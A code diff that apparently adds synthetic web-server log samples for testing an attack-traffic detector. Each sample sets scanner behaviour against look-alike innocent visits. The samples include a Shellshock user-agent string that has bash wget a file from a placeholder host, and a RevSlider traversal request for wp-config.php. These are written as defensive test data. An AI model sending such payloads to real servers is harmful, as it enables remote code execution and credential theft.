@@ -193,6 +193,9 @@ def _trap(log: Log) -> str:
 def _attack(log: Log) -> str:
     log.hit(50, "203.0.113.95", "/wp-admin/admin-ajax.php?action=revslider_show_image"
             "&img=..%2Fwp-config.php", status=200, size=3100)
+    # The payload in a header rather than the path: Shellshock in the user agent.
+    log.hit(55, "203.0.113.96", "/cgi-bin/status", status=404, size=150,
+            ua="() { :; }; /bin/bash -c 'wget http://198.51.100.66/x'")
     # An old browser beside it sends a relative link's dot-segment above the root as it is.
     log.hit(70, PERSON[3:], "/../Clipart/logo.jpg", status=400, size=300,
             referer="https://shop.example/",
@@ -208,6 +211,61 @@ def _login_bruteforce(log: Log) -> str:
         log.hit(200 + 20 * n, PERSON[3:], "/wp-login.php", method="POST",
                 status=302 if n == 2 else 200, referer="https://shop.example/wp-login.php")
     return "ip:203.0.113.97"
+
+
+@sample("login-refused")
+def _login_refused(log: Log) -> str:
+    # The site serves its login form to the person, and refuses it to the scanner.
+    log.hit(30, PERSON[3:], "/wp-login.php", referer="https://shop.example/", size=4200)
+    log.hit(45, PERSON[3:], "/wp-login.php", method="POST", status=200, size=4300,
+            referer="https://shop.example/wp-login.php")  # a wrong password: the form again
+    for n, ua in enumerate([FIREFOX, SAFARI]):
+        log.hit(60 + 300 * n, "203.0.113.101", "/wp-login.php", status=403, size=300, ua=ua)
+    return "ip:203.0.113.101"
+
+
+@sample("login-without-form")
+def _login_without_form(log: Log) -> str:
+    for n in range(4):  # passwords posted straight at the form, never loaded
+        log.hit(60 + 400 * n, "203.0.113.102", "/wp-login.php", method="POST", size=4300)
+    # The person's browser withholds referers: a mistyped password, then the right one.
+    log.hit(100, PERSON[3:], "/wp-login.php", method="POST", status=200, size=4300)
+    log.hit(120, PERSON[3:], "/wp-login.php", method="POST", status=302, size=0)
+    return "ip:203.0.113.102"
+
+
+@sample("xmlrpc-browser-agent")
+def _xmlrpc_browser(log: Log) -> str:
+    for n in range(6):
+        log.hit(60 + 5 * n, "203.0.113.103", "/xmlrpc.php", method="POST", size=400, ua=CHROME)
+    for n in range(8):  # the person's WordPress app publishing over XML-RPC
+        log.hit(200 + 10 * n, PERSON[3:], "/xmlrpc.php", method="POST", size=900,
+                ua="wp-android/24.1 (Android 14)")
+    return "ip:203.0.113.103"
+
+
+@sample("known-target-probe")
+def _known_target(log: Log) -> str:
+    log.hit(60, "203.0.113.104", "/blog/wp-admin/", status=404, size=150, ua="-")
+    # The site has /wp-admin/: its editor is served it, then refused it once (a security
+    # plugin); and a link on the site leads to an /admin.php the site no longer has.
+    log.hit(20, PERSON[3:], "/wp-admin/", size=9000)
+    log.hit(90, PERSON[3:], "/wp-admin/", status=403, size=300)
+    log.hit(95, PERSON[3:], "/admin.php", status=404, size=150,
+            referer="https://shop.example/about")
+    log.hit(130, PERSON[3:], "/admin.php", status=404, size=150)
+    return "ip:203.0.113.104"
+
+
+@sample("missing-scripts")
+def _missing_scripts(log: Log) -> str:
+    for n, name in enumerate(["init_includes", "robots", "tmp", "wp-conf1g"]):
+        log.hit(60 + 3 * n, "203.0.113.105", f"/{name}.php", status=404, size=150)
+    # The person follows a dead link to a script and mistypes another.
+    log.hit(140, PERSON[3:], "/contact.php", status=404, size=150,
+            referer="https://shop.example/about")
+    log.hit(150, PERSON[3:], "/serch.php", status=404, size=150)
+    return "ip:203.0.113.105"
 
 
 @sample("author-enumeration")
